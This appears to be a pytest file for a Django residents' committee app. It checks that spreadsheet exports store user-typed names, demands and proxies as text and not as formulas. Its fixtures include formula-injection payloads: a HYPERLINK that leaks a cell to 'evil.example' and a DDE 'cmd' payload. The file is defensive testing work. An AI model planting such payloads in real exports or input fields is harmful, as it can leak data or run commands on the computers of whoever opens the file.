"""Formula injection (issue 13): text typed by people — a building's name, an owner's, a proxy's, a demand, a
canvasser's — is written to every .xlsx export as text, never as a formula the committee's spreadsheet would run.

The building is called "=1+1" and the owner "=HYPERLINK(…)"; each export is downloaded as the committee would and
read back with openpyxl: every text cell is a string cell ("s") holding exactly what was typed.
"""

import io
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from community.models import Role
from consult.models import DemandTag
from consult.services import assignment_create
from proposals.models import Scope
from tests.consult.canvass.conftest import record
from tests.costs.conftest import add_plan, consulting, open_voting
from tests.factories import EntranceFactory, HouseholdFactory, RoleFactory
from tests.voting.register.conftest import pdf
from voting.models import Channel, Choice
from voting.paper_services import paper_ballot_record

pytestmark = pytest.mark.django_db

BUILDING = "=1+1"
OWNER = '=HYPERLINK("http://evil.example/?leak="&A2,"点我")'
PROXY = "=2+2"
DEMAND = "=cmd|' /C calc'!A0"
TAG = "=SUM(1,2)"
CANVASSER = "@SUM(1)"
ITEM = "=1*3"
COMMUNITY = "=小区"


@pytest.fixture
def hostile(community):
    """A stairwell whose building is "=1+1", its owners "=HYPERLINK(…)"; a proposal with a cost plan, a visit with
    demands, then voting open with a proxy ballot, all written by people whose names look like formulas."""
    community.name = COMMUNITY
    community.save(update_fields=["name"])
    entrance = EntranceFactory(building__community=community, building__name=BUILDING, name="1")
    households = [
        HouseholdFactory(entrance=entrance, room=f"10{n}", floor=1, area=Decimal("90.00"), owner__name=OWNER)
        for n in (1, 2)
    ]
    committee = RoleFactory(community=community, kind=Role.Kind.COMMITTEE, user__display_name="=委员").user
    secretary = RoleFactory(community=community, kind=Role.Kind.SECRETARY, user__display_name="=3+3").user
    canvasser = RoleFactory(community=community, kind=Role.Kind.CANVASSER, user__display_name=CANVASSER).user
    proposal = consulting(community, committee, scope=Scope.ENTRANCES, entrances=[entrance], title="=加装电梯")
    add_plan(proposal, committee, items=((ITEM, "1000.00"),), subsidies=())
    assignment_create(proposal=proposal, canvasser=canvasser, entrance=entrance, by=committee)
    tag = DemandTag.objects.create(community=community, name=TAG)
    record(proposal, households[0], canvasser, tag_ids=[tag.pk], demands=DEMAND)
    return proposal, households, committee, secretary


def _sheets(response) -> list:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return openpyxl.load_workbook(io.BytesIO(response.content)).worksheets


def _text_cells(sheets) -> dict[str, list[str]]:
    """Every cell holding text, by value, with its data type; fails on any formula cell."""
    found: dict[str, list[str]] = {}
    for sheet in sheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, []).append(cell.data_type)
    return found


def _assert_text(cells: dict[str, list[str]], *values: str):
    for value in values:
        assert value in cells, f"{value!r} is not in the export"
        assert set(cells[value]) == {"s"}, f"{value!r} written as {cells[value]}"
    assert {kind for kinds in cells.values() for kind in kinds} == {"s"}


def test_the_register_writes_labels_names_and_proxies_as_text(hostile, client_as):
    proposal, households, committee, secretary = hostile
    open_voting(proposal, committee)
    paper_ballot_record(
        proposal=proposal, household=households[0], choice=Choice.AGREE, channel=Channel.PROXY, by=secretary,
        proxy_name=PROXY, evidence=pdf(),
    )  # fmt: skip
    response = client_as(committee).get(reverse("register", args=[proposal.pk]), {"format": "xlsx"})
    cells = _text_cells(_sheets(response))
    # The label building-entrance-room was written as a formula: Excel showed 2 where "=1+1-1-101" was meant.
    _assert_text(cells, f"{BUILDING}-1-101", f"{BUILDING}-1-102", OWNER, PROXY, "=3+3", f"#{proposal.number} =加装电梯")


def test_the_demands_summary_writes_tags_demands_and_canvassers_as_text(hostile, client_as):
    proposal, _households, committee, _secretary = hostile
    response = client_as(committee).get(reverse("demands_summary", args=[proposal.pk]), {"format": "xlsx"})
    cells = _text_cells(_sheets(response))
    _assert_text(cells, TAG, DEMAND, CANVASSER, f"{BUILDING}-1-101")


def test_the_cost_shares_write_buildings_and_the_proposal_as_text(hostile, client_as):
    proposal, _households, committee, _secretary = hostile
    response = client_as(committee).get(reverse("cost_shares_xlsx", args=[proposal.pk]))
    cells = _text_cells(_sheets(response))
    _assert_text(cells, BUILDING, COMMUNITY, f"#{proposal.number} =加装电梯")


def test_the_roster_template_is_text_too(actors, client_as):
    client = client_as(actors.users["committee"])
    response = client.get(reverse("roster_import", args=[actors.community.slug]), {"template": "xlsx"})
    _assert_text(_text_cells(_sheets(response)), "楼栋", "张伟")
